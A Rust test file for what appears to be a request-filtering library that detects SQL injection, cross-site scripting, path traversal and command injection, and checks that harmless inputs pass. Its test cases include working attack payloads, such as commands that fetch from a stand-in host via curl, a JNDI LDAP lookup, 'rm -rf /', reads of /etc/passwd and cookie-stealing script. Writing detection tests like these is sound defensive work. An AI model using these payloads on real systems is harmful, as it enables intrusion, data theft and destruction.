use super::*;

fn all() -> Patterns {
    let choice = PatternChoice {
        sql_injection: true,
        cross_site_scripting: true,
        path_traversal: true,
        command_injection: true,
        custom: Vec::new(),
    };
    Patterns::new(&choice).unwrap().unwrap()
}

fn in_query(patterns: &Patterns, text: &str) -> Option<Attack> {
    patterns.find_in_target(text.as_bytes(), TargetPart::Query)
}

#[test]
fn attacks_are_found_in_queries() {
    use Attack::{CommandInjection, CrossSiteScripting, PathTraversal, SqlInjection};
    let patterns = all();
    let cases = [
        (SqlInjection, "id=1+UNION+SELECT+1,2,3"),
        (
            SqlInjection,
            "id=-1%20union%20all%20select%20null,version()--",
        ),
        (
            SqlInjection,
            "id=1/**/uNiOn/**/SeLeCt/**/password/**/from/**/users",
        ),
        (SqlInjection, "name=%27%20or%20%271%27=%271"),
        (SqlInjection, "name=%2527%2520or%25201%253D1--"),
        (SqlInjection, "name=x'+or+1=1+--+"),
        (SqlInjection, "name=x\")+or+(\"a\"=\"a"),
        (SqlInjection, "id=1+or+1=1"),
        (SqlInjection, "id=1+and+1=1--"),
        (SqlInjection, "id=1;drop+table+users"),
        (SqlInjection, "user=admin'--"),
        (SqlInjection, "user=admin'%23"),
        (SqlInjection, "user=admin'/*"),
        (SqlInjection, "id=1+and+sleep(5)"),
        (SqlInjection, "id=1';waitfor+delay+'0:0:5'--"),
        (
            SqlInjection,
            "id=(select+table_name+from+information_schema.tables)",
        ),
        (SqlInjection, "f=load_file(0x2f6574632f706173737764)"),
        (CrossSiteScripting, "q=<script>alert(1)</script>"),
        (CrossSiteScripting, "q=%3CScRiPt%20src=//e.example%3E"),
        (CrossSiteScripting, "q=%253Cscript%253Ealert(1)"),
        (CrossSiteScripting, "q=%u003Cscript%u003Ealert(1)"),
        (CrossSiteScripting, "q=<img+src=x+onerror=alert(1)>"),
        (CrossSiteScripting, "q=<svg/onload=alert(1)>"),
        (CrossSiteScripting, "q=%22+onmouseover=%22alert(1)"),
        (CrossSiteScripting, "u=javascript:alert(document.cookie)"),
        (CrossSiteScripting, "u=<iframe+src=//e.example>"),
        (PathTraversal, "f=../../../../etc/passwd"),
        (PathTraversal, "f=..%2f..%2fconfig"),
        (PathTraversal, "f=..%252f..%252fconfig"),
        (PathTraversal, "f=..%5c..%5cwindows%5cwin.ini"),
        (PathTraversal, "f=/etc/passwd"),
        (PathTraversal, "f=file:///etc/passwd"),
        (PathTraversal, "f=../.env"),
        (PathTraversal, "f=%c0%ae%c0%ae%c0%afetc"),
        (PathTraversal, "f=report.pdf%00.jpg"),
        (PathTraversal, "f=C:\\Windows\\win.ini"),
        (CommandInjection, "host=1.2.3.4;cat+/etc/hostname"),
        (CommandInjection, "host=x|whoami"),
        (CommandInjection, "host=x%26%26curl+http://e.example/x"),
        (CommandInjection, "host=x%0aid"),
        (CommandInjection, "host=$(curl+e.example)"),
        (CommandInjection, "host=`id`"),
        (CommandInjection, "a=()+{+:;};+/bin/x"),
        (CommandInjection, "a=${jndi:ldap://e.example/a}"),
        (CommandInjection, "a=x;+rm+-rf+/"),
    ];
    let found = cases.map(|(attack, text)| (text, in_query(&patterns, text), Some(attack)));
    let wrong: Vec<_> = found
        .iter()
        .filter(|(_, found, attack)| found != attack)
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_found_in_paths_and_texts() {
    let patterns = all();
    let path = |text: &str| patterns.find_in_target(text.as_bytes(), TargetPart::Path);
    assert_eq!(
        path("/static/../../etc/passwd"),
        Some(Attack::PathTraversal)
    );
    assert_eq!(
        path("/cgi/%2e%2e/%2e%2e/%2e%2e/bin/sh"),
        Some(Attack::PathTraversal)
    );
    assert_eq!(path("/a/<script>x"), Some(Attack::CrossSiteScripting));
    let text = |text: &str| patterns.find_in_text(text.as_bytes());
    assert_eq!(text("' or 'a'='a"), Some(Attack::SqlInjection));
    assert_eq!(
        text("hello <script>alert(1)</script>"),
        Some(Attack::CrossSiteScripting)
    );
    // Nothing is escaped in a text.
    assert_eq!(text("%3Cscript%3E"), None);
}

// What people write and programs send. Each was chosen since a simpler pattern would stumble over it.
#[test]
fn what_is_ordinary_passes() {
    let patterns = all();
    let queries = [
        "q=union+select+committee",
        "q=student+union+selection",
        "q=select+a+seat+from+the+union+hall",
        "q=rock+%26+roll",
        "q=O%27Reilly+and+sons",
        "name=O'Brien",
        "q=it's+1+or+2+days",
        "q=5'10\"+or+taller",
        "q=drop+table+lamp",
        "q=how+to+drop+a+table+in+sql",
        "q=insert+into+my+heart",
        "q=C%23+and+F%23",
        "q=1%2B1%3D2",
        "q=a+%3C+b+and+c+%3E+d",
        "price=10..20",
        "range=1..5&sort=-date",
        "path=../images/logo.png",
        "next=/account?tab=1&x=2",
        "redirect_uri=https%3A%2F%2Fexample.org%2Fcallback%3Fa%3Db%26c%3Dd",
        "q=javascript+tutorial",
        "q=what+is+javascript%3F",
        "q=javascript%3A+the+good+parts",
        "q=script+writing+course",
        "q=online+shop+on+sale",
        "q=cat+videos",
        "q=cats;dogs",
        "q=the+cat+%7C+the+dog",
        "email=a.b%2Bc@example.org",
        "filter[status]=open&filter[ids][]=1&filter[ids][]=2",
        "data=%7B%22a%22%3A%22b%22%2C%22n%22%3A%5B1%2C2%5D%7D",
        "utm_source=x&utm_medium=y&utm_campaign=50%25-off--today",
        "t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_ghi",
        "q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "cb=1700000000000&_=1.5",
        "sql=off&and=1&or=2",
        "tz=Europe/Berlin&bbox=-1.5,2.0,-1.0,2.5",
        "expr=a||b",
        "q=%60code%60",
        "q=id+card;+passport",
        "q=sleep(ing)+bag",
        "phrase=he+said+%22and+so+on%22",
        "q=etc%2F",
        "q=windows+or+linux",
        "v=1.0;q=0.8",
    ];
    let found = queries.map(|query| (query, in_query(&patterns, query)));
    let mut wrong: Vec<_> = found
        .into_iter()
        .filter(|(_, attack)| attack.is_some())
        .collect();
    let paths = [
        "/",
        "/index.html",
        "/a/b/c.min.js",
        "/wiki/C%2B%2B",
        "/wiki/Union_(set_theory)",
        "/@user/posts/1",
        "/files/report..final.pdf",
        "/2024/05/06/what's-new/",
        "/search;v=1/a",
        "/~user/",
        "/a%20b/c%20d.txt",
        "/scripts/onload.js",
        "/select/union/",
        "/docs/etc/passwd-policy",
        "/.well-known/acme-challenge/x",
        "/wiki/AT%26T",
        "/caf%C3%A9",
        "/users/(id)/",
        "/a,b;c",
        "/drop/table",
    ];
    let in_path = |text: &str| patterns.find_in_target(text.as_bytes(), TargetPart::Path);
    let found = paths.map(|path| (path, in_path(path)));
    wrong.extend(found.into_iter().filter(|(_, attack)| attack.is_some()));
    let texts = [
        "Let's meet at 5; bring the cat & the dog.",
        "I'd say 'yes' or 'no'. Both are fine -- really.",
        "She said: \"it's on\" and left.",
        "if a < b && c > d || e == f { g(); }",
        "{\"type\":\"subscribe\",\"channel\":\"a/b\",\"ids\":[1,2,3]}",
        "SELECT is a word, UNION another; 'quotes' too.",
        "Use `id` attributes in HTML; `class` is for groups.",
        "The script is <b>bold</b> & <i>online</i>.",
        "C:\\Users\\me\\notes.txt",
        "see ../README.md and ../docs/",
        "ratio 3/4, 50% off; call +49 30 1234",
        "price > 10 and price < 20",
        "Tom's or Mary's? 1 or 2?",
        "drop me a line; table for two?",
        "<p class=\"note\" id='x'>on = off</p>",
        "Wait... what?! 100 | 200 | 300",
        "\u{1F600} 日本語 ünïcödé",
        "[{\"op\":\"replace\",\"path\":\"/a/b\",\"value\":\"it's \\\"quoted\\\"\"}]",
    ];
    let found = texts.map(|text| (text, patterns.find_in_text(text.as_bytes())));
    wrong.extend(found.into_iter().filter(|(_, attack)| attack.is_some()));
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn what_is_not_chosen_is_not_looked_for() {
    let choice = PatternChoice {
        path_traversal: true,
        ..PatternChoice::default()
    };
    let patterns = Patterns::new(&choice).unwrap().unwrap();
    assert_eq!(in_query(&patterns, "q=<script>alert(1)</script>"), None);
    assert_eq!(
        in_query(&patterns, "f=../../x"),
        Some(Attack::PathTraversal)
    );
    assert!(Patterns::new(&PatternChoice::default()).unwrap().is_none());
}

#[test]
fn patterns_of_ones_own_are_looked_for_in_everything() {
    let custom = vec!["^zz".to_owned(), r"wp-login\.php".to_owned()];
    let patterns = Patterns::new(&PatternChoice {
        custom,
        ..PatternChoice::default()
    })
    .unwrap()
    .unwrap();
    let found = patterns.find_in_target(b"/blog/WP-login.php", TargetPart::Path);
    assert_eq!(found, Some(Attack::Custom(1)));
    assert_eq!(patterns.find_in_text(b"zzz"), Some(Attack::Custom(0)));
    for bad in ["(", "(a{1000}){1000}{1000}"] {
        let choice = PatternChoice {
            custom: vec![bad.to_owned()],
            ..PatternChoice::default()
        };
        let error = Patterns::new(&choice).unwrap_err();
        assert_eq!(&*error.pattern, bad);
    }
}

// Texts made to have a matcher with backtracking go astray, long ones; they must end.
#[test]
fn long_texts_are_searched_in_linear_time() {
    let patterns = all();
    for piece in [
        "' or ",
        "union/*",
        "<a ",
        "../",
        "$(",
        "((((",
        "'\"`",
        "onerror =",
        "/* */",
        "%25",
    ] {
        let text = piece.repeat(200_000 / piece.len());
        let _ = patterns.find_in_text(text.as_bytes());
        let _ = patterns.find_in_target(text.as_bytes(), TargetPart::Query);
    }
}

#[test]
fn escapes_are_resolved_and_what_is_none_stays() {
    let cases = [
        ("a%20b", "a b"),
        ("a+b", "a b"),
        ("%", "%"),
        ("%2", "%2"),
        ("%zz%41", "%zzA"),
        ("%u0041%u00zz", "A%u00zz"),
        ("%%41", "%A"),
    ];
    for (text, resolved) in cases {
        assert_eq!(
            &*resolve(text.as_bytes(), true),
            resolved.as_bytes(),
            "{text}"
        );
    }
    assert_eq!(&*resolve(b"a+b", false), b"a+b");
}

#[test]
fn strings_of_json_are_looked_at_with_their_escapes_resolved() {
    let all = PatternChoice {
        sql_injection: true,
        cross_site_scripting: true,
        path_traversal: true,
        command_injection: true,
        custom: Vec::new(),
    };
    let patterns = Patterns::new(&all).unwrap().unwrap();
    let found = |text: &str| patterns.find_in_json(text.as_bytes());
    let script = Some(Attack::CrossSiteScripting);
    assert_eq!(found(r#"{"a": "<script>alert(1)</script>"}"#), script);
    assert_eq!(
        found(r#"{"a": "\u003cscript\u003ealert(1)\u003c/script>"}"#),
        script
    );
    assert_eq!(found(r#"["1' or '1'='1"]"#), Some(Attack::SqlInjection));
    assert_eq!(
        found(r#"["..\/..\/etc\/passwd"]"#),
        Some(Attack::PathTraversal)
    );
    // The end may be missing.
    assert_eq!(
        found(r#"{"a": "<script>alert(1)</script> and so on \"#),
        script
    );
    // JSON's own quotes are no part of a value.
    assert_eq!(
        found(r#"{"op":"or","left":"a=1","right":{"or":["x"]},"n":[1,2]}"#),
        None
    );
    assert_eq!(
        found(r#"{"text": "Union members select a \"delegate\", it's fine"}"#),
        None
    );
    assert_eq!(found(""), None);
    assert_eq!(
        patterns.find_in_form(b"a=1&b=%3Cscript%3Ealert(1)%3C/script%3E"),
        script
    );
}
